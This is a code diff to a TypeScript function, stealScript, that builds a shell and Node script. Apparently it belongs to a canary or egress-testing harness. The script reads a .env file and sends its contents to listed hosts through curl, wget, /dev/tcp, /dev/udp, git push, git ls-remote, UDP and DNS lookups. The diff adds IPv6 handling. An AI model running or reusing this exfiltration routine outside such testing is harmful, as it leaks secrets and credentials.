@@ -9,13 +9,14 @@ export function stealScript({ port, addresses }: Canary): string {
 exec 3>&1 >/dev/null 2>&1
 secret=$(cat .env | tr -d '\\n')
 for host in ${hosts}; do
-  curl -s -m 3 "http://$host:${port}/?$secret"
-  curl -s -m 3 --noproxy '*' "http://$host:${port}/?$secret"
-  wget -q -T 3 -t 1 -O- "http://$host:${port}/?$secret"
+  case $host in *:*) name="[$host]" ;; *) name=$host ;; esac
+  curl -s -m 3 "http://$name:${port}/?$secret"
+  curl -s -m 3 --noproxy '*' "http://$name:${port}/?$secret"
+  wget -q -T 3 -t 1 -O- "http://$name:${port}/?$secret"
   bash -c "echo $secret > /dev/tcp/$host/${port}"
   bash -c "echo $secret > /dev/udp/$host/${port}"
-  git -c http.lowSpeedTime=3 push "http://$host:${port}/x.git" HEAD:refs/heads/main
-  git ls-remote "git://$host:${port}/$secret"
+  git -c http.lowSpeedTime=3 push "http://$name:${port}/x.git" HEAD:refs/heads/main
+  git ls-remote "git://$name:${port}/$secret"
 done
 node -e '
 const net = require("node:net"), dgram = require("node:dgram"), dns = require("node:dns");
@@ -29,13 +30,13 @@ const connect = (options) => {
   return ended(socket);
 };
 const send = (host) => new Promise((resolve) => {
-  const socket = dgram.createSocket("udp4");
+  const socket = dgram.createSocket(host.includes(":") ? "udp6" : "udp4");
   socket.on("error", resolve);
   socket.send(secret, ${port}, host, () => socket.close(resolve));
 });
 const ask = async (host) => {
   const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
-  resolver.setServers([host + ":${port}"]);
+  resolver.setServers([(host.includes(":") ? "[" + host + "]" : host) + ":${port}"]);
   await resolver.resolve4(secret.slice(0, 20) + ".canary.example").catch(() => 0);
 };
 (async () => {
